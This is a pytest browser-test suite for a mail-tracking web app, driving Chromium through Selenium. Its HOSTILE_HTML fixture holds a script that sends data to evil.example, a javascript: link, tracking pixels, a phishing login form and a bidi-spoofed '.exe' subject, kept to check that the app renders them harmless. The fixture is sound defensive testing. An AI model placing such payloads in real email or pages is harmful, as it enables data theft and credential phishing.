"""The pages in a real browser: the distribution's Chromium (headless, Selenium) against the app
served by uvicorn on 127.0.0.1, with a SQLite store and POP3TestServer.

With ``MAILTRACK_SCREENSHOTS=docs/_static/web`` (``nox -s screenshots``) the run also saves the
screenshots that the docs show.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from _browser import Browser, chromium, requested_urls, served, wait_for
from _webpages import REPORT
from mailtrack import Config
from mailtrack.stores import SQLRecordStore
from mailtrack.testing import POP3TestServer, build_message
from mailtrack.web import TokenAuthorization, create_app

pytestmark = pytest.mark.slow

PASSWORD = "browser-test-token"
HOSTILE_HTML = (
    "<p>Dear support,</p><script>document.title = 'pwned'; fetch('https://evil.example/steal')</script>"
    "<p><a href=\"javascript:document.title='pwned'\">Click me</a></p>"
    '<img src="https://tracker.example/pixel.gif" alt="tracking pixel">'
    '<div style="background-image: url(https://tracker.example/bg.png)">styled</div>'
    '<link rel="stylesheet" href="https://evil.example/style.css">'
    '<form action="https://evil.example/login"><input name="password"><button>Log in</button></form>'
)
MESSAGES = [
    build_message(
        subject="The printer on floor 3 is on fire",
        text="Hello,\n\nthe printer is on fire again. The report is attached.\n\n> Earlier: it smoked.\n",
        attachments=[("report.pdf", "application/pdf", REPORT)],
    ),
    build_message(subject="Invoice \u202efdp.exe please pay", html=HOSTILE_HTML, text="See the HTML part."),
]


@pytest.fixture
def browser(tmp_path: Path) -> Iterator[Browser]:
    downloads = tmp_path / "downloads"
    downloads.mkdir()
    with chromium(downloads) as running:
        yield running


@pytest.fixture
def store(tmp_path: Path) -> Iterator[SQLRecordStore]:
    with SQLRecordStore(f"sqlite:///{tmp_path / 'pages.db'}") as opened:
        yield opened


@pytest.fixture
def pop3() -> Iterator[POP3TestServer]:
    with POP3TestServer(MESSAGES, user="help", password="right-pw") as server:
        yield server


@pytest.fixture
def site(store: SQLRecordStore) -> Iterator[str]:
    app = create_app(store=store, config=Config(), authorize=TokenAuthorization(PASSWORD))
    with served(app) as url:
        yield url


def _submit(browser: Browser, label: str) -> None:
    from selenium.webdriver.common.by import By

    browser.follow(browser.driver.find_element(By.XPATH, f"//button[normalize-space()={label!r}]"))


def _fill_connection(browser: Browser, pop3: POP3TestServer, password: str) -> None:
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import Select

    driver = browser.driver
    for name, value in (
        ("name", "helpdesk"),
        ("server", "127.0.0.1"),
        ("port", str(pop3.port)),
        ("login", "help"),
        ("password", password),
    ):
        field = driver.find_element(By.NAME, name)
        field.clear()
        field.send_keys(value)
    Select(driver.find_element(By.NAME, "security")).select_by_value("none")


def _text(browser: Browser) -> str:
    from selenium.webdriver.common.by import By

    text: str = browser.driver.find_element(By.TAG_NAME, "main").text
    return text


def test_without_the_password_the_browser_gets_nothing(browser: Browser, site: str) -> None:
    browser.driver.get(site + "/records")
    # Chromium asks for the password (its own dialog); the page stays empty.
    assert "Records" not in browser.driver.page_source
    assert "mailtrack" not in browser.driver.title


def test_add_an_interface_run_it_and_read_its_record(
    browser: Browser, site: str, store: SQLRecordStore, pop3: POP3TestServer
) -> None:
    from selenium.webdriver.common.by import By

    driver = browser.driver
    browser.sign_in(site, PASSWORD)
    driver.get(site + "/")
    assert "No mail interface yet" in _text(browser)
    browser.follow(driver.find_element(By.LINK_TEXT, "New interface"))

    # A wrong password: the test says so, and nothing is saved without "save anyway".
    _fill_connection(browser, pop3, "wrong-pw")
    _submit(browser, "Next: test the connection")
    assert "The connection test failed" in _text(browser)
    _submit(browser, "Save")
    assert "tick “save anyway”" in _text(browser)
    assert store.list_interfaces() == []

    # The right one passes the test and saves.
    driver.get(site + "/interfaces/new")
    _fill_connection(browser, pop3, "right-pw")
    browser.screenshot("interface-connection")
    _submit(browser, "Next: test the connection")
    assert "Connected and logged in without encryption. 2 messages are waiting" in _text(browser)
    project = driver.find_element(By.NAME, "project")
    project.clear()
    project.send_keys("help")
    driver.find_element(By.NAME, "defaults").send_keys("priority = high")
    browser.screenshot("interface-records")
    _submit(browser, "Save")
    assert "Saved helpdesk." in _text(browser)
    assert store.get_interface("helpdesk").password == "right-pw"
    assert "right-pw" not in driver.page_source

    # Run it: the list shows the last run.
    _submit(browser, "Run now")
    row = driver.find_element(By.CSS_SELECTOR, 'tr[data-interface="helpdesk"]').text
    assert "2 imported (2 new, 0 follow-ups), 0 skipped, 0 quarantined" in row
    browser.screenshot("interfaces")

    # The records, newest activity first; open the one with the attachment.
    browser.follow(driver.find_element(By.LINK_TEXT, "Records"))
    browser.screenshot("records")
    browser.follow(driver.find_element(By.PARTIAL_LINK_TEXT, "The printer on floor 3"))
    page = _text(browser)
    assert (
        page.index("From: Alice Example") < page.index("Date: ") < page.index("the printer is on fire again")
    )
    assert driver.find_element(By.CSS_SELECTOR, "details.quoted").get_attribute("open") is None
    browser.screenshot("record")

    # "Raw header" shows the raw header block.
    browser.follow(driver.find_element(By.LINK_TEXT, "Raw header"))
    headers = driver.find_element(By.ID, "headers").text
    assert "Subject: The printer on floor 3 is on fire" in headers
    assert re.search(r"^Message-ID: <", headers, re.MULTILINE)
    browser.follow(driver.find_element(By.PARTIAL_LINK_TEXT, "#"))  # back to the record

    # The attachment downloads byte-identical.
    driver.find_element(By.LINK_TEXT, "report.pdf").click()
    saved = browser.downloads / "report.pdf"
    wait_for(lambda: saved.exists() and saved.stat().st_size == len(REPORT), what="the download")
    assert saved.read_bytes() == REPORT


def test_a_hostile_message_renders_harmless(
    browser: Browser, site: str, store: SQLRecordStore, pop3: POP3TestServer
) -> None:
    from selenium.webdriver.common.by import By

    from mailtrack import Importer

    Importer(store=store).run(pop3.interface(name="helpdesk", project="help"))
    hostile = next(r for r in store.list_records() if r.title.startswith("Invoice"))
    driver = browser.driver
    browser.sign_in(site, PASSWORD)
    requested_urls(driver)  # forget what came before
    driver.get(f"{site}/records/{hostile.id}")
    frame = driver.find_element(By.CSS_SELECTOR, "iframe.html")
    assert frame.get_attribute("sandbox") == "allow-popups allow-popups-to-escape-sandbox"

    # The bidi override is shown as an escape, in the page and in its title.
    assert "\u202e" not in driver.title
    assert "Invoice \\u202efdp.exe please pay" in driver.find_element(By.TAG_NAME, "h1").text
    assert driver.find_elements(By.TAG_NAME, "script") == []

    driver.switch_to.frame(frame)
    wait_for(lambda: "Dear support" in driver.find_element(By.TAG_NAME, "body").text, what="the frame")

    # Nothing the page or its frame asked for left 127.0.0.1.
    urls = requested_urls(driver)
    assert any(url.endswith(f"/records/{hostile.id}") for url in urls)
    assert any("/html" in url for url in urls)
    leaving = [url for url in urls if not url.startswith(site + "/") and not url.startswith("data:")]
    assert leaving == []
    assert [url for url in browser.outside if ".example" in url] == []
    assert driver.find_elements(By.TAG_NAME, "script") == []
    assert driver.find_elements(By.TAG_NAME, "form") == []
    assert driver.find_elements(By.TAG_NAME, "link") == []
    for link in driver.find_elements(By.TAG_NAME, "a"):
        assert not (link.get_attribute("href") or "").startswith("javascript:")
    for image in driver.find_elements(By.TAG_NAME, "img"):
        assert not image.get_attribute("src")
    assert driver.execute_script("return document.title") != "pwned"
    driver.switch_to.default_content()
    assert driver.title != "pwned"
    browser.screenshot("hostile-record")


def test_retry_and_discard_a_quarantined_message(browser: Browser, site: str, store: SQLRecordStore) -> None:
    from selenium.webdriver.common.by import By

    from mailtrack import MailInterface

    store.save_interface(MailInterface(name="helpdesk", server="127.0.0.1", login="help", project="help"))
    store.quarantine("helpdesk", "uid-1", build_message(subject="Retry me"), "the converter failed: timeout")
    store.quarantine("helpdesk", "uid-2", build_message(subject="Discard me"), "the converter failed: boom")
    driver = browser.driver
    browser.sign_in(site, PASSWORD)
    driver.get(site + "/quarantine")
    assert "the converter failed: timeout" in _text(browser)
    browser.screenshot("quarantine")

    browser.follow(driver.find_element(By.CSS_SELECTOR, 'tr[data-id="1"] button'))
    assert "Message 1 was imported." in _text(browser)
    assert [r.title for r in store.list_records()] == ["Retry me"]

    browser.follow(
        driver.find_element(By.CSS_SELECTOR, 'tr[data-id="2"]').find_element(By.LINK_TEXT, "Discard")
    )
    assert "Discard message 2?" in _text(browser)
    _submit(browser, "Discard message 2")
    assert "Message 2 was discarded" in _text(browser)
    assert store.list_quarantined() == []


def test_an_interface_that_signs_in_with_oauth(
    browser: Browser,
    site: str,
    store: SQLRecordStore,
    pop3: POP3TestServer,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The OAuth 2.0 settings in the form: ticked, filled and saved instead of a password; the test
    of the connection says that nobody signed in yet, and how to."""
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import Select

    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path))  # where a token file would be looked for
    driver = browser.driver
    browser.sign_in(site, PASSWORD)
    driver.get(site + "/interfaces/new")
    fieldset = driver.find_element(By.CSS_SELECTOR, "fieldset.oauth-slot")
    assert "OAuth 2.0 sign-in" in fieldset.text
    _fill_connection(browser, pop3, "")
    fieldset.find_element(By.NAME, "oauth").click()
    Select(driver.find_element(By.NAME, "oauth_provider")).select_by_value("microsoft")
    Select(driver.find_element(By.NAME, "oauth_flow")).select_by_value("refresh_token")
    driver.find_element(By.NAME, "oauth_client_id").send_keys("the-app-id")
    driver.find_element(By.NAME, "oauth_tenant").send_keys("example.com")
    browser.screenshot("interface-oauth")
    _submit(browser, "Next: test the connection")
    page = _text(browser)
    assert "The connection test failed" in page
    assert "mailtrack oauth login helpdesk" in page
    driver.find_element(By.NAME, "save_anyway").click()
    _submit(browser, "Save")
    assert "Saved helpdesk." in _text(browser)
    saved = store.get_interface("helpdesk")
    assert saved.oauth is not None
    assert (saved.oauth.provider, saved.oauth.client_id, saved.oauth.tenant) == (
        "microsoft",
        "the-app-id",
        "example.com",
    )
    assert saved.password == ""


def test_the_interface_form_follows_the_protocol(browser: Browser, site: str, store: SQLRecordStore) -> None:
    """The mailbox fields go away for a delivered interface, the IMAP ones show for IMAP only; a
    delivered interface is saved without server or login, and an IMAP one edited keeps its folder
    and what becomes of its mail."""
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import Select

    from mailtrack import MailInterface, MailProtocol

    imap = MailInterface(
        name="imap-desk",
        protocol=MailProtocol.IMAP,
        server="127.0.0.1",
        login="desk",
        password="imap-password",
        folder="Support",
        after_import="move:Support/Done",
        project="desk",
    )
    store.save_interface(imap)
    driver = browser.driver
    browser.sign_in(site, PASSWORD)
    driver.get(site + "/interfaces/new")
    protocol = Select(driver.find_element(By.NAME, "protocol"))
    mailbox, imap_fields, note = (
        driver.find_element(By.ID, "mailbox"),
        driver.find_element(By.ID, "imap"),
        driver.find_element(By.CSS_SELECTOR, ".deliver-note"),
    )
    assert (mailbox.is_displayed(), imap_fields.is_displayed(), note.is_displayed()) == (True, False, False)
    protocol.select_by_value("imap")
    assert (mailbox.is_displayed(), imap_fields.is_displayed(), note.is_displayed()) == (True, True, False)
    protocol.select_by_value("deliver")
    assert (mailbox.is_displayed(), note.is_displayed()) == (False, True)
    assert not driver.find_element(By.ID, "oauth").is_displayed()
    driver.find_element(By.NAME, "name").send_keys("piped")
    _submit(browser, "Next: test the connection")
    assert "has no mailbox to connect to" in _text(browser)
    _submit(browser, "Save")
    assert "Saved piped." in _text(browser)
    row = driver.find_element(By.CSS_SELECTOR, 'tr[data-interface="piped"]')
    assert row.find_element(By.CSS_SELECTOR, "td.protocol").text == "delivered"
    assert row.find_elements(By.XPATH, ".//button[normalize-space()='Run now']") == []
    saved = store.get_interface("piped")
    assert (saved.protocol, saved.server, saved.login) == (MailProtocol.DELIVER, "", "")

    # Edit the IMAP interface, change nothing, save anyway (no server runs): all kept.
    driver.get(site + "/interfaces/imap-desk/edit")
    assert driver.find_element(By.NAME, "folder").get_attribute("value") == "Support"
    assert driver.find_element(By.NAME, "move_folder").get_attribute("value") == "Support/Done"
    _submit(browser, "Next: test the connection")
    driver.find_element(By.NAME, "save_anyway").click()
    _submit(browser, "Save")
    assert "Saved imap-desk." in _text(browser)
    assert store.get_interface("imap-desk") == imap
